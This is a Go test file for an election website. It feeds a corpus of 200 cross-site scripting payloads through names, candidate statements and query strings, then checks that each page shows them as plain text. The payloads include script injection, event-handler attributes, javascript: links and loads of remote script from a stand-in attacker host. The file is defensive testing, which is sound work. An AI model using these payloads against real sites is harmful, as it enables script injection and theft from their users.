package api

import (
	"encoding/csv"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"hustings/api/web"
	"hustings/api/web/browsertest"
	"hustings/elections/register"
)

// corpus is two hundred ways of having one's name or statement carried out as
// markup: every payload in every context that a page could put a text into.
func corpus() []string {
	payloads := []string{
		`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<body onload=alert(1)>`, `<iframe src="javascript:alert(1)"></iframe>`,
		`<a href="javascript:alert(1)">x</a>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<math><mi xlink:href="javascript:alert(1)">`,
		`<style>@import '//evil.example'</style>`, `<link rel=stylesheet href=//evil.example>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<object data="data:text/html,<script>alert(1)</script>">`, `<form action=//evil.example><button>x`, `{{.}}{{template "x"}}`, `${alert(1)}`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `<scr<script>ipt>alert(1)</script>`, `<marquee onstart=alert(1)>`, `<video><source onerror=alert(1)>`, `javascript:alert(1)//`,
	}
	contexts := []string{"%s", `">%s`, `'>%s`, `</bdi></title>%s`, `</textarea>%s`, `--> %s`, `]]>%s`, "x\u2028%s y"}
	var all []string
	for _, c := range contexts {
		for _, p := range payloads {
			all = append(all, fmt.Sprintf(c, p))
		}
	}
	return all
}

// onlyOurs fails if a page holds any element or attribute that could run or load
// something and is not of our own making.
func onlyOurs(t *testing.T, where, page string) (text string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		if n.Type == html.ElementNode {
			ours := n.Data == "img" && slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "src" && strings.HasPrefix(a.Val, "/help/pictures/") })
			if !ours && slices.Contains([]string{"iframe", "object", "embed", "base", "style", "math", "marquee", "video", "audio", "img", "applet"}, n.Data) {
				t.Errorf("%s holds <%s>", where, n.Data)
			}
			for _, a := range n.Attr {
				lower := strings.ToLower(a.Val)
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "formaction":
					t.Errorf("%s: <%s %s>", where, n.Data, a.Key)
				case a.Key == "http-equiv":
					t.Errorf("%s: a meta element that acts", where)
				case a.Key == "href" || a.Key == "src" || a.Key == "action":
					if language, next, ok := strings.Cut(lower, "?next="); ok && strings.HasPrefix(language, "/language/") {
						lower, _ = url.QueryUnescape(next) // back to this page, in another language
						lower, _, _ = strings.Cut(lower, "?")
					}
					if strings.Contains(lower, "javascript:") || strings.HasPrefix(lower, "//") || strings.Contains(lower, "evil.example") {
						t.Errorf("%s leads to %s", where, a.Val)
					}
				}
			}
			if n.Data == "script" && (n.FirstChild != nil || !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool {
				return a.Key == "src" && strings.HasPrefix(a.Val, "/assets/")
			})) {
				t.Errorf("%s holds a script that is not ours", where)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return b.String()
}

// BD6: two hundred attempts in names, organisations and statements are text on
// every page that shows them.
func TestBD6_MarkupIsShownAsText(t *testing.T) {
	t.Parallel()
	all := corpus()
	if len(all) != 200 {
		t.Fatalf("%d attempts", len(all))
	}
	d := mustDesk(t, 14)
	var file strings.Builder
	rows := csv.NewWriter(&file)
	rows.Write([]string{"number", "forename", "surname", "email", "organisation", "home", "status", "joined"})
	plainNames := slices.DeleteFunc(slices.Clone(all), func(s string) bool { return strings.ContainsRune(s, '\u2028') })
	for i := range 5 {
		rows.Write([]string{fmt.Sprintf("M%04d", i), plainNames[7*i], plainNames[9*i+30], fmt.Sprintf("m%04d@example.org", i), plainNames[11*i+60], "CIO", "active", "2024-01-01"})
	}
	rows.Flush()
	if report, err := d.register.ImportMembers(d.ctx(), d.as("SEC"), strings.NewReader(file.String()), register.ImportOptions{Why: "names"}); err != nil {
		t.Fatalf("%v: %+v", err, report)
	}
	el := d.mustNotice(nil)
	for i := range 5 {
		var statement strings.Builder
		for _, s := range all[40*i : 40*i+40] {
			statement.WriteString(s + "\n")
		}
		d.mustStand(el, fmt.Sprintf("M%04d", i), statement.String(), fmt.Sprintf("M%04d", 6+i/2*2), fmt.Sprintf("M%04d", 7+i/2*2))
	}
	candidate := d.browse("M0000")
	candidate.must(candidate.get("/elections/CIO-2026/stand"))
	onlyOurs(t, "nomination", candidate.page)
	c := d.mustOpen(el)
	b := d.browse("M0012")
	b.must(b.get("/elections/CIO-2026"))
	text := onlyOurs(t, "election", b.page)
	for _, s := range all {
		if !strings.Contains(text, s) {
			t.Errorf("the election's page does not show %q as it is", s)
		}
	}
	kept := map[string]string{"/election": b.page, "/stand": candidate.page}
	ballot := "/contests/" + string(c.ID) + "/ballot"
	for i := range 12 {
		v := d.browse(fmt.Sprintf("M%04d", i))
		v.must(v.get(ballot))
		onlyOurs(t, "ballot", v.page)
		kept["/ballot"] = v.page
		v.must(v.post(ballot+"/review", map[string][]string{"rank-c01": {"1"}, fmt.Sprintf("rank-c%02d", i%4+2): {"2"}}))
		onlyOurs(t, "review", v.page)
		kept["/review"] = v.page
		v.must(v.post(ballot+"/confirm", v.hidden(ballot+"/confirm")))
	}
	officer := d.browse("RO")
	for path, page := range officer.crawl(200) {
		if strings.HasPrefix(page.header.Get("Content-Type"), "text/html") {
			onlyOurs(t, path, page.body)
			if strings.HasPrefix(path, "/elections/") || strings.HasPrefix(path, "/office/people") {
				kept[fmt.Sprintf("/office-%d", len(kept))] = page.body
			}
		}
	}
	d.at(c.Closes)
	d.at(c.Closes.Add(1e9))
	d.at(c.Closes.Add(2e9))
	anybody := d.browse("")
	anybody.must(anybody.get("/elections/CIO-2026/result"))
	// Everybody's first choice was the first on the ballot, whoever the lot put there.
	if text, first := onlyOurs(t, "result", anybody.page), c.Options[0].Name; !strings.Contains(text, first) {
		t.Errorf("the result does not name %q, who was elected", first)
	}
	kept["/result"] = anybody.page
	queries := []string{"/elections?q=", "/find?code=", "/sign-in?next=", "/elections?state="}
	for k, path := range queries {
		for i, s := range all {
			if !turn(i, k, len(queries)) {
				continue
			}
			if status := anybody.get(path + url.QueryEscape(s)); status >= http.StatusInternalServerError {
				t.Errorf("%s%s: %d", path, s, status)
			}
			onlyOurs(t, path+s, anybody.page)
		}
	}
	if testing.Short() {
		return
	}
	inBrowser(t, d, kept)
}

// inBrowser has a real browser load pages, once under the site's policy and once
// without any: then it is the pages alone that keep a text from running.
func inBrowser(t *testing.T, d *desk, pages map[string]string) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		page, kept := pages[r.URL.Path]
		if !kept {
			d.server.Handler().ServeHTTP(w, r) // styles and scripts
			return
		}
		if r.URL.RawQuery == "" {
			w.Header().Set("Content-Security-Policy", web.Policy)
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	defer srv.Close()
	browsertest.Run(t, "markup.mjs", srv.URL, "PAGES="+strings.Join(slices.Sorted(maps.Keys(pages)), " "))
}
